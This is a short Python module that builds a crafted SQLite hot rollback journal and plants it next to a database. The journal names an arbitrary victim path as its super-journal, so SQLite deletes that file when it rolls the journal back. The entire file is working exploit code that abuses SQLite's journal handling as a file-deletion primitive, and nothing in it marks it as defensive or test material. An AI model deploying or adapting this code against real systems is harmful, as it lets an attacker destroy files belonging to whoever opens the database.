"""A rollback journal as somebody plants it beside a database, to have SQLite delete a file."""

from __future__ import annotations

import struct
from pathlib import Path

_MAGIC = bytes.fromhex("d9d505f920a163d7")
_SECTOR = 512


def plant_journal(database: Path, victim: Path) -> Path:
    """Write a hot journal of no pages, which names `victim` as its super-journal: SQLite rolls back and deletes it."""
    content, name = database.read_bytes(), str(victim).encode()
    page_size = struct.unpack(">H", content[16:18])[0]
    header = struct.pack(">8s5I", _MAGIC, 0, 0, len(content) // page_size, _SECTOR, page_size)
    pending_page = 0x40000000 // page_size + 1
    tail = struct.pack(">I", pending_page) + name + struct.pack(">2I", len(name), sum(name)) + _MAGIC
    journal = database.with_name(database.name + "-journal")
    journal.write_bytes(header.ljust(_SECTOR, b"\0") + tail)
    return journal
